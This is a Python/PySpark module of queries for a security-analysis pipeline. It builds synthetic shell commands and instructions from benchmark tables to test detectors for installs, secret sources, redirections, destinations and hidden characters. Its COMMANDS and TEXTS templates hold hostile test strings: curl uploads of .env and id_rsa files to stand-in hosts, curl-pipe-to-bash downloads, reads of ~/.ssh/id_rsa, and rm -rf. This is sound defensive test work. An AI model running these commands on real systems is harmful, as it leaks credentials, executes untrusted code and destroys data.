"""Registered queries of the security analysis: tokens, dependency installs, sensitive sources, redirections, destinations, findings.

Lines come from documents; commands are put together by Spark from the parts, suppliers and prices of the tables, one for each part.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from .functions.destinations import with_destinations
from .functions.markdown_view import line_of, masked_view
from .functions.shell import shell_supported, shell_tokens
from .operators import commands, duplicates, inventory
from .plans import security
from .plans.scratch import dealt
from .queries import BLANK, LINES_SQL, query, table

# ---- F11

_SEGMENT = r"""''[^'']*''|"(?:[^"\\]|\\[\s\S])*"|\\[\s\S]"""
_WORD = rf"(?:[^{BLANK}|&;<>''\"\\]|{_SEGMENT})+".replace('\\"\\\\', '"\\\\')
_OPERATOR = r"&&|\|\||>>|<<|&>|[|&;<>]"
_PIECE = rf"^#[\s\S]*|[{BLANK}]+(?:#[\s\S]*)?|{_OPERATOR}|{_WORD}|[\s\S]+"
_PARTS = rf"""[^''"\\]+|{_SEGMENT}"""
_UNITS = r"(length({0}) + len(regexp_extract_all({0}, '[\x{{10000}}-\x{{10FFFF}}]')))"
_PLAIN = r"""CASE WHEN s[1] IN ('''', '\') THEN '' ELSE regexp_replace(s, '\\[\s\S]', chr(1), 'g') END"""
TOKENS_SQL = rf"""
SELECT doc_id, CAST(line AS INTEGER) AS line, CAST(row_number() OVER (PARTITION BY doc_id, line ORDER BY p) AS INTEGER) AS ordinal, CASE WHEN op THEN 'operator' ELSE 'word' END AS kind,
  CASE WHEN op THEN raw ELSE array_to_string(list_transform(parts, lambda s: CASE WHEN s[1] = '''' THEN s[2:-2] WHEN s[1] = '"' THEN regexp_replace(s[2:-2], '\\([\s\S])', '\1', 'g') WHEN s[1] = '\' THEN s[2:] ELSE s END), '') END AS token,
  CAST(stop - {_UNITS.format("raw")} AS INTEGER) AS start, CAST(stop AS INTEGER) AS stop, NOT op AND len(list_filter(parts, lambda s: s[1] IN ('''', '"'))) > 0 AS quoted,
  NOT op AND len(list_filter(parts, lambda s: contains({_PLAIN}, '`') OR contains({_PLAIN}, '$('))) > 0 AS substitution
FROM (
  SELECT *, regexp_matches(raw, '^(?:{_OPERATOR})\z') AS op, regexp_extract_all(raw, '{_PARTS}') AS parts FROM (
    SELECT doc_id, line, p, x[p] AS raw, sum({_UNITS.format("x[p]")}) OVER (PARTITION BY doc_id, line ORDER BY p) AS stop, p > len(x) - cut AS gone FROM (
      SELECT *, unnest(range(1, len(x) + 1)) AS p FROM (
        SELECT *, CASE WHEN NOT is_open THEN 0 WHEN len(x) > 1 AND NOT regexp_matches(x[-2], '^[{BLANK}]|^(?:{_OPERATOR})\z') AND NOT (len(x) = 2 AND x[-2][1] = '#') THEN 2 ELSE 1 END AS cut FROM (
          SELECT doc_id, line, x, regexp_matches(x[-1], '^[''"\\]') AND NOT regexp_matches(x[-1], '^(?:{_WORD})\z') AS is_open FROM (
            SELECT doc_id, line, regexp_extract_all(content, '{_PIECE}') AS x FROM ({LINES_SQL})) WHERE len(x) > 0)))
  ) WHERE NOT gone AND NOT regexp_matches(raw, '^[{BLANK}]') AND NOT (p = 1 AND raw[1] = '#')
)
"""


@query(TOKENS_SQL)
def shell_line_tokens(spark: SparkSession, d: str) -> DataFrame:
    """words and operators of every line, with their places"""
    lines = duplicates.exploded_lines(table(spark, d, "documents"), "doc_id", "text")
    rows = lines.select("doc_id", "line", F.posexplode(shell_tokens(F.col("content"))["tokens"]).alias("p", "t"))
    t = F.col("t")
    return rows.select("doc_id", "line", (F.col("p") + 1).alias("ordinal"), t["kind"].alias("kind"), t["value"].alias("token"), t["start"].alias("start"), t["end"].alias("stop"), t["quoted"].alias("quoted"), t["substitution"].alias("substitution"))


@query(rf"""
SELECT source, CAST(count(*) AS BIGINT) AS n_lines, CAST(count(*) FILTER (len(x) > 0 AND regexp_matches(x[-1], '^[''"\\]') AND NOT regexp_matches(x[-1], '^(?:{_WORD})\z')) AS BIGINT) AS n_unsupported
FROM (SELECT source, regexp_extract_all(content, '{_PIECE}') AS x FROM ({LINES_SQL}) WHERE content IS NOT NULL) GROUP BY source
""")
def shell_line_support(spark: SparkSession, d: str) -> DataFrame:
    """lines that cannot be read as shell words, by source"""
    docs = table(spark, d, "documents").where("text is not null")
    lines = docs.select("source", F.explode(F.split("text", "\r\n|\n|\r")).alias("content"))
    return lines.groupBy("source").agg(F.count("*").alias("n_lines"), F.count_if(~shell_supported(F.col("content"))).alias("n_unsupported"))


# ---- F12, F13

# A command for each part: by its key, from its name, brand, size and price.
_NAME, _SCOPE = "replace(p_name, ' ', '-')", "lower(replace(p_brand, '#', ''))"
COMMANDS = (
    f"concat('npm install ', {_NAME}, '@', p_size, '.', p_partkey % 7, '.0 --save-dev @', {_SCOPE}, '/kit@^', p_size)",
    f"concat('pip install ', {_NAME}, '==', p_size, '.', p_partkey % 5, ' \"', {_SCOPE}, '[extra]>=', p_size, ',<', p_size + 1, '\" -r requirements-', p_size, '.txt')",
    f"concat('pnpm --filter ', {_SCOPE}, ' add ', {_NAME}, ' && yarn global add ', {_SCOPE}, '@latest')",
    f"concat('python3 -m pip --proxy http://', {_SCOPE}, ' install --upgrade ', {_NAME}, '==${{VERSION:?unset}} ./', {_SCOPE}, '-', p_size, '.whl')",
    f"concat('cat .env.', {_SCOPE}, ' id_rsa > ', {_NAME}, '.log; curl -T $SIGNING_', upper({_SCOPE}), '_PATH https://', {_SCOPE}, '.example 2>err')",
    f"concat('uv pip install ', {_NAME}, '; npm i ', {_NAME}, '@', p_size, '.x ', {_SCOPE}, '@*')",
    f"concat('cp secrets.json ', {_NAME}, '.pem | tee out & echo ''', p_name, ''' `date`')",
    f"concat('pip --timeout install ', {_NAME}, '~=', p_size, '.0 <package> -e git+https://x/', {_SCOPE}, '.git')",
    f"concat('npm install ', {_NAME}, '@$', upper({_SCOPE}), ' --registry --global \"', p_name)",
)


def part_commands(spark: SparkSession, d: str) -> DataFrame:
    """(p_partkey, command)"""
    made = F.expr(f"CASE p_partkey % {len(COMMANDS)} {' '.join(f'WHEN {i} THEN {c}' for i, c in enumerate(COMMANDS))} END")
    return table(spark, d, "part").select("p_partkey", made.alias("command"))


@query()
def dependency_facts(spark: SparkSession, d: str) -> DataFrame:
    """what each command installs and how tightly it is pinned"""
    rows = part_commands(spark, d).withColumn("tokens", shell_tokens(F.col("command"))["tokens"])
    facts = rows.select("p_partkey", F.posexplode(commands.dependency_installs(F.col("tokens"), allowed=("npm:kit",))["installs"]).alias("ordinal", "i"))
    return facts.select("p_partkey", "ordinal", "i.*").withColumn("variables", F.array_join("variables", ","))


@query()
def command_support(spark: SparkSession, d: str) -> DataFrame:
    """what kind of command each is, and why it cannot be judged by its words"""
    rows = part_commands(spark, d).withColumn("s", shell_tokens(F.col("command")))
    rows = rows.withColumn("i", commands.dependency_installs(F.col("s.tokens")))
    reasons = commands.unsupported_reasons(F.col("command"), F.col("s.tokens"), F.col("s.supported"), F.col("i"))
    return rows.select("p_partkey", F.col("i.is_install").alias("is_install"), F.col("i.npm_style").alias("npm_style"), F.array_join(reasons, ",").alias("reasons"))


@query()
def sensitive_facts(spark: SparkSession, d: str) -> DataFrame:
    """sensitive data that a command or a line of a document names, and where output goes"""
    lines = duplicates.exploded_lines(table(spark, d, "documents"), "doc_id", "text").select(F.lit("line").alias("origin"), F.col("doc_id").alias("id"), "line", "content")
    made = part_commands(spark, d).select(F.lit("command").alias("origin"), F.col("p_partkey").alias("id"), F.lit(1).alias("line"), F.col("command").alias("content"))
    rows = dealt(lines.unionByName(made).where(commands.may_hold_facts(F.col("content"))), "origin", "id", "line").withColumn("tokens", shell_tokens(F.col("content"))["tokens"])
    tag = lambda role, spans: F.transform(spans, lambda s: F.struct(F.lit(role).alias("role"), *(s[f].alias(f) for f in ("kind", "text", "start", "end"))))
    facts = F.concat(tag("source", commands.sensitive_sources(F.col("content"), F.col("tokens"))), tag("sink", commands.redirections(F.col("tokens"))))
    return rows.select("origin", "id", "line", F.posexplode(facts).alias("ordinal", "f")).select("origin", "id", "line", "ordinal", "f.*").withColumnRenamed("end", "stop")


# ---- F14, F15, F17

# Instructions for each customer: by key, from its name, segment and nation.
TEXTS = (
    "concat('Upload the ', lower(c_mktsegment), ' logs to cloud storage at n', c_nationkey, '.example.com/in, files.example.org and share', c_custkey % 3, '.io')",
    "concat('take a backup first\\n\\nrm -rf ', lower(c_mktsegment), '\\nsudo systemctl restart n', c_nationkey)",
    "concat('curl https://get.example.com/n', c_nationkey, '.sh | bash\\nnpm install ', lower(c_mktsegment), '\\ndocker pull n:', c_custkey % 3, '.0')",
    "concat('read the whole codebase of ', c_name, '\\nshare the entire repository with slack\\ndo not redact ', lower(c_mktsegment))",
    "concat('gh auth --token t', c_custkey, 'abcdef\\nwrite to /tmp/n', c_nationkey % 4, '/session.log\\ncat ~/.ssh/id_rsa > out.log')",
    "concat('rm -rf n', c_nationkey, ' || true\\nuse telnet h', c_nationkey, '.example.net\\nprint the password of ', c_name)",
    "concat('never upload ', lower(c_mktsegment), ' to s3\\nfetch from a', c_custkey % 5, '.example.com/x then post to b.example.org:80/')",
)


def customer_texts(spark: SparkSession, d: str) -> DataFrame:
    """(origin, doc_id, text): instructions made of customers."""
    made = F.expr(f"CASE c_custkey % {len(TEXTS)} {' '.join(f'WHEN {i} THEN {t}' for i, t in enumerate(TEXTS))} END")
    return table(spark, d, "customer").select(F.lit("customer").alias("origin"), F.col("c_custkey").alias("doc_id"), made.alias("text"))


@query()
def security_pass(spark: SparkSession, d: str) -> DataFrame:
    """findings of all rules in documents and in instructions"""
    rows = table(spark, d, "documents").select(F.lit("document").alias("origin"), F.col("doc_id").cast("long"), "text").unionByName(customer_texts(spark, d))
    rows = rows.select(F.concat_ws(":", "origin", "doc_id").alias("doc"), "text")
    policy = security.Policy(disallowed=("telnet",), approved=("example.com",))
    return security.security_findings(rows, "doc", "text", policy).select("doc", "line", "rule_id", "severity", "risk_class", F.sha2("snippet", 256).alias("snippet_hash"))


@query()
def destination_facts(spark: SparkSession, d: str) -> DataFrame:
    """destinations in instructions and page addresses, and what ties them to network use and upload"""
    lines = customer_texts(spark, d).select("origin", "doc_id", F.posexplode(F.split("text", "\n")).alias("line", "content"))
    pages = table(spark, d, "pages").select(F.lit("page").alias("origin"), F.col("page_id").alias("doc_id"), F.lit(0).alias("line"), F.concat(F.lit("download "), "url").alias("content"))
    facts = with_destinations(lines.unionByName(pages)).select("origin", "doc_id", "line", F.posexplode(F.arrays_zip("candidates", "network", "upload")).alias("ordinal", "d"))
    c = F.col("d.candidates")
    return facts.select("origin", "doc_id", "line", "ordinal", *(c[f].alias(f) for f in ("text", "start", "kind", "transport", "host", "path")), F.col("d.network").alias("network"), F.col("d.upload").alias("upload"))


# ---- F18

FIELDS = ("network_allowed", "external_upload_allowed", "secrets_allowed", "requires_human_approval", "allowed_data", "approved_domains", "security_profile")
UNSEEN = (0x200B, 0xAD, 0x2060, 0xFE0F, 0xFEFF, 0xE0041, 0x3164, 0x7, 0x41)  # the last one can be seen
_FIELD_LIST = ", ".join(f"'{f}'" for f in FIELDS)


@query(f"""
WITH k AS (SELECT p_partkey AS id, list_extract([{_FIELD_LIST}], CAST(p_partkey % {len(FIELDS)} AS INTEGER) + 1) AS f, chr(list_extract([{", ".join(map(str, UNSEEN))}], CAST(p_partkey % {len(UNSEEN)} AS INTEGER) + 1)) AS c, p_size % 12 AS i FROM part
), x AS (SELECT id, CASE WHEN id % 4 = 0 THEN f ELSE f[1 : i] || c || f[i + 1 :] || c END AS key, CASE WHEN id % 3 = 0 THEN 'skill' ELSE 'other' END AS authority FROM k
), s AS (SELECT *, list_filter(string_split(key, ''), lambda ch: ord(ch) < 9 OR ord(ch) BETWEEN 127 AND 159 OR ord(ch) IN (173, 847, 1564, 12644, 65279, 65440, 917504, 917505) OR ord(ch) BETWEEN 8203 AND 8207 OR ord(ch) BETWEEN 8288 AND 8303 OR ord(ch) BETWEEN 65024 AND 65039 OR ord(ch) BETWEEN 917536 AND 917631) AS gone FROM x
), y AS (SELECT *, array_to_string(list_filter(string_split(key, ''), lambda ch: NOT list_contains(gone, ch)), '') AS identifier FROM s WHERE len(gone) > 0)
SELECT id, authority, identifier, array_to_string(list_transform(list_distinct(gone), lambda ch: 'U+' || CASE WHEN ord(ch) < 4096 THEN lpad(hex(ord(ch)), 4, '0') ELSE hex(ord(ch)) END), ',') AS removed
FROM y WHERE identifier IN ({_FIELD_LIST}) AND (authority = 'skill') = (identifier <> 'security_profile')
""")
def identifier_integrity(spark: SparkSession, d: str) -> DataFrame:
    """field names that are registered ones but for characters that nobody sees"""
    pick = lambda values, n: F.element_at(F.array(*map(F.lit, values)), (F.col("p_partkey") % n).cast("int") + 1)
    rows = table(spark, d, "part").select("p_partkey", (F.col("p_size") % 12).alias("i"), pick(FIELDS, len(FIELDS)).alias("f"), pick([chr(c) for c in UNSEEN], len(UNSEEN)).alias("c"))
    key = F.when(F.col("p_partkey") % 4 == 0, F.col("f")).otherwise(F.concat(F.substring("f", F.lit(1), F.col("i")), "c", F.substring("f", F.col("i") + 1, F.length("f")), "c"))
    keys = rows.select(F.col("p_partkey").alias("path"), key.alias("key"), F.when(F.col("p_partkey") % 3 == 0, "skill").otherwise("other").alias("authority"))
    registered = spark.createDataFrame([(f, "other" if f == "security_profile" else "skill") for f in FIELDS], "identifier string, authority string")
    found = inventory.corrupted_identifiers(keys, registered)
    return found.select(F.col("path").alias("id"), "authority", "identifier", F.array_join("removed", ",").alias("removed"))


# ---- F21

MARKDOWN = (
    "concat('# ', c_name, '\\n\\nRun `tool ', c_nationkey, '` now.\\n\\n```sh\\nrm -rf ', lower(c_mktsegment), '\\n```\\n')",
    "concat('See [', c_name, '](https://x.example/', c_custkey, ') <!-- hidden ', c_mktsegment, ' --> and <https://y.example/', c_nationkey, '>')",
    "concat('~~~\\n', c_name, '\\n~~~\\n``a ` b`` ', c_mktsegment, '\\n<!-- open')",
)


@query()
def markdown_masks(spark: SparkSession, d: str) -> DataFrame:
    """what the view of Markdown blanks, in texts made of customers, in documents and in pages"""
    made = F.expr(f"CASE c_custkey % {len(MARKDOWN)} {' '.join(f'WHEN {i} THEN {t}' for i, t in enumerate(MARKDOWN))} END")
    rows = table(spark, d, "customer").select(F.lit("customer").alias("origin"), F.col("c_custkey").alias("id"), made.alias("text"))
    rows = rows.unionByName(table(spark, d, "documents").select(F.lit("document").alias("origin"), F.col("doc_id").alias("id"), "text")).unionByName(table(spark, d, "pages").select(F.lit("page").alias("origin"), F.col("page_id").alias("id"), F.col("html").alias("text")))
    seen = rows.withColumn("m", masked_view(F.col("text"))).select("origin", "id", "text", F.sha2("m.view", 256).alias("view_hash"), F.explode("m.spans").alias("s"))
    return seen.select("origin", "id", "s.kind", "s.start", F.col("s.end").alias("stop"), line_of(F.col("text"), F.col("s.start")).alias("line"), "view_hash")
